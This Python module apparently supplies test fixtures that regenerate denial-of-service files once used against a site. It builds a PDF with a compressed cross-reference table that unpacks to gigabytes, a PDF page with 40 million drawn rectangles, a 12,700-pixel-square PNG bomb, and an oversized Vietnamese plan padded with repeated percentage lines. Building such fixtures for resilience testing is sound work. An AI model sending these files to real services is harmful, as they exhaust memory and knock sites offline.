"""Small files that were made to take a site down, each as it was first tried. The same bytes every time."""

import struct
import zlib

PERCENT = "- {}% trẻ em lao động trái quy định của pháp luật được hỗ trợ, can thiệp vào năm 2025.\n"
HEAD = """ỦY BAN NHÂN DÂN
XÃ TÂN THÀNH
Số: 05/KH-UBND
Tân Thành, ngày 05 tháng 6 năm 2024
KẾ HOẠCH
Phòng ngừa, giảm thiểu lao động trẻ em năm 2024
I. MỤC TIÊU
"""


def exploding_table_of_places(rows: int = 4_000_000) -> bytes:
    """A PDF of 20 kB whose table of places unpacks to 20 MB, and to gigabytes as a table."""
    table = _packed(b"\x01\x00\x00\x10\x00", rows)
    start = b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    said = b"<</Type/XRef/Size %d/W[1 3 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % (rows, len(table))
    return (
        start
        + b"9 0 obj\n%b\nstream\n%b\nendstream\nendobj\n" % (said, table)
        + b"startxref\n%d\n%%%%EOF\n" % len(start)
    )


def exploding_scan(strokes: int = 40_000_000) -> bytes:
    """A PDF of one A4 page on which more is drawn than any memory holds."""
    return one_page(_packed(b"0 0 9 9 re f\n", strokes))


def one_page(content: bytes, width: int = 595, height: int = 842) -> bytes:
    """`content` is deflated already."""
    parts = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 %d %d]/Contents 4 0 R>>" % (width, height),
        b"<</Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(content), content),
    )
    body, places = b"%PDF-1.4\n", []
    for number, part in enumerate(parts, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"xref\n0 5\n0000000000 65535 f \n%btrailer\n<</Root 1 0 R/Size 5>>\n" % table
    return body + end + b"startxref\n%d\n%%%%EOF\n" % len(body)


def exploding_picture(side: int = 12_700) -> bytes:
    """A PNG of 645 kB with 161 million transparent pixels."""
    header = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
    pixels = _packed(b"\0" * (1 + 4 * side), side)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def percentages(size: int = 834_000) -> str:
    """A plan that promises as much as fits into so many bytes."""
    text = HEAD + "".join(PERCENT.format(number % 100 + 1) for number in range(size // len(PERCENT)))
    return text.encode()[:size].decode(errors="ignore")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _packed(piece: bytes, times: int) -> bytes:
    """`piece` so many times, deflated, without ever holding all of it."""
    packing, many = zlib.compressobj(9), max(1, 1_000_000 // len(piece))
    whole, rest = divmod(times, many)
    packed = b"".join(packing.compress(piece * many) for _ in range(whole))
    return packed + packing.compress(piece * rest) + packing.flush()
